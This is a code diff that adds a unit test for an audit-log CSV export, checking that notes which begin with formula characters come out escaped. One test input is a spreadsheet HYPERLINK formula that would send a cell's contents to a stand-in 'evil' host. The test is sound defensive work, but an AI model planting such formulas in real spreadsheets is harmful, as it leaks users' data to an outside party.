@@ -59,6 +59,22 @@ describe("an entry of the audit log", () => {
   });
 });
 
+test("what people wrote is no formula in a spreadsheet", () => {
+  const notes = ['=HYPERLINK("https://evil/?"&A2;"ok")', "@SUM(A1)", "+1+1", "-2+3", "\tx", "\r=1", "-5.25", "a=b"];
+  const changes = notes.map((after) => ({ field: "note", before: null, after }));
+  const told = notes.map((_, number) => auditCsv([row({ changes: changes.slice(number, number + 1) })]));
+  expect(told.map((csv) => /,note,,(.*),ann,/s.exec(csv)?.[1])).toEqual([
+    '"\'=HYPERLINK(""https://evil/?""&A2;""ok"")"',
+    "'@SUM(A1)",
+    "'+1+1",
+    "'-2+3",
+    "'\tx",
+    '"\'\r=1"',
+    "-5.25",
+    "a=b",
+  ]);
+});
+
 test("what is shown of the log lies in the address; what is not understood does not", () => {
   const view = { ticker: "SIM:AAPL", person: "ann", group: "sign-ins" } as const;
   expect(formatAuditView(view)).toBe("?ticker=SIM:AAPL&person=ann&group=sign-ins");
